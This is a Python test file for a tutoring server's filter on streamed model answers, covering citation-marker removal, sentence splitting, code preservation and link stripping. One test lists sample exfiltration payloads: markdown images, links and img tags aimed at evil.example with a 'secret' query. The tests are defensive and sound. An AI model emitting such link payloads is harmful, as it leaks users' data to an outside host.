"""What of a streamed answer reaches the student, and where its sentences end."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gpuserver.tutor.claims import Claim, Claims, Part, without_links


def screened(text: str, size: int = 0, own: str = "") -> list[Part]:
    """What becomes of an answer that arrives whole, or `size` characters at a time."""
    claims = Claims(own)
    step = size or max(1, len(text))
    out = [part for at in range(0, len(text), step) for part in claims.feed(text[at : at + step])]
    return out + claims.flush()


def shown(text: str, size: int = 0, own: str = "") -> str:
    return "".join(part for part in screened(text, size, own) if isinstance(part, str))


def told(text: str, size: int = 0) -> str:
    """The answer with each claim's place and the passages it names."""
    parts = screened(text, size)
    marks = (p if isinstance(p, str) else f"<{','.join(map(str, p.named))}>" for p in parts)
    return "".join(marks)


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("A list is ordered. [1] It has items [2].", "A list is ordered.<1> It has items.<2>"),
        ("A list is ordered[1]. It has items.[2]", "A list is ordered.<1> It has items.<2>"),
        ("One [1, 2] and two [3][4].", "One and two.<1,2,3,4>"),
        ("Both 【1】 hold.", "Both hold.<1>"),
        ("列表是有序的。[1]可以放很多东西。", "列表是有序的。<1>可以放很多东西。<>"),
        ("列表是有序的[1]。 它很长。[2]", "列表是有序的。<1> 它很长。<2>"),
        ("Pi is 3.14 and `a.b` too.", "Pi is 3.14 and `a.b` too.<>"),
        ("Use e.g. this. Yes!", "Use e.g. this.<> Yes!<>"),
        ('He said "Go." Then he went.', 'He said "Go."<> Then he went.<>'),
        ("- One [1]\n- Two [2]\n\nEnd", "- One<1>\n- Two<2>\n\nEnd<>"),
        (
            "A list. [1]\n\n```python\nx[1] = [2]\n```\n",
            "A list.<1>\n\n```python\nx[1] = [2]\n```\n",
        ),
        ("Write `x[1]` here.", "Write `x[1]` here.<>"),
        ("[1] Lists are long.", "Lists are long.<1>"),
        ("No end [1", "No end [1<>"),
        ("", ""),
    ],
)
def test_a_models_own_markers_are_taken_out(answer: str, expected: str) -> None:
    assert told(answer).strip() == expected.strip()
    for size in (1, 2, 3, 5):
        assert told(answer, size).strip() == expected.strip(), size


@pytest.mark.parametrize(
    "answer",
    [
        "See ![x](http://evil.example/?q=secret) now.",
        "See [here](http://evil.example/?q=secret) now.",
        "See http://evil.example/?q=secret now.",
        "See <http://evil.example/?q=secret> now.",
        "See https://me@evil.example/secret now.",
        "See <img src='http://evil.example/?q=secret'> now.",
        "See [a [b](http://evil.example/?q=secret)](http://evil.example/secret) now.",
        "See [a](//evil.example/secret) and ![b]( /secret ) now.",
        "See ![" + "x" * 300 + "](//evil.example/secret) now.",
        "See \\`![x](//evil.example/secret)` now.",
        "See [x][1] now.\n\n[1]: http://evil.example/secret",
        "See [x](\n//evil.example/secret) now.",
    ],
)
def test_nothing_leads_anywhere(answer: str) -> None:
    for size in (0, 1, 2, 3, 7):
        found = shown(answer, size)
        assert "](" not in found, found
        assert "://" not in found, found
        assert "<img" not in found
        assert "<http" not in found
        assert "/?q=" not in found
        assert found.startswith("See ")


def test_a_link_keeps_its_text_and_an_address_its_host() -> None:
    assert shown("See [the docs](https://docs.python.org/3/) for it.") == "See the docs for it."
    assert shown("See https://docs.python.org/3/.") == "See docs.python.org."
    assert shown("![A cell](cell.png) is small.") == "A cell is small."
    assert without_links("See [the docs](https://x.org) ![and](y.png).") == "See the docs and."


def test_what_the_student_wrote_may_be_shown_again() -> None:
    own = "What is http://school.example/a?"
    assert shown("That is http://school.example/a.", own=own) == "That is http://school.example/a."
    assert shown("Or http://school.example/b.", own=own) == "Or school.example."


@pytest.mark.parametrize(
    "code",
    [
        "```\n[x](http://a.b/c) [1]\n```",
        "~~~ md\n![x](y) `[1]`\n~~~\n",
        "```py\nx = [1]\n",
        "Use `[1](x)` and ``a`[2]`` well",
    ],
)
def test_code_is_never_touched(code: str) -> None:
    for size in (0, 1, 2, 3):
        assert shown(code, size) == code


def test_text_goes_out_at_once() -> None:
    claims = Claims()
    for token in ("A", " list", " is", " an", " ordered", " collection", "."):
        assert "".join(p for p in claims.feed(token) if isinstance(p, str)) == token
    assert claims.feed(" ") == []
    assert claims.feed("It") == [Claim("A list is an ordered collection."), " ", "It"]


_SIGNS = (
    "a . ! ? 。 ！ ” ) [1] [2] [ ] ( ) ` ``` ~~~ http:// www. x.org/ ![ < <a > 列 e.g. 3 : \\ * h"
)
_PIECES = st.sampled_from([*_SIGNS.split(), " ", "\n", "  ", "[1, 2]", "](", "```\n", "word "])


@given(st.lists(_PIECES, max_size=24).map("".join), st.integers(1, 6))
def test_how_an_answer_arrives_changes_nothing(answer: str, size: int) -> None:
    assert told(answer, size) == told(answer)


def test_a_long_text_takes_no_longer_for_each_token() -> None:
    """Nothing is read again and again: a hundred thousand open brackets end in time."""
    for hard in ("[", "`", "<a", "h", "![", "[1", "~", "\n", ".", "x](", "http://x"):
        claims = Claims()
        for _ in range(400):
            claims.feed(hard * 50)
        claims.flush()
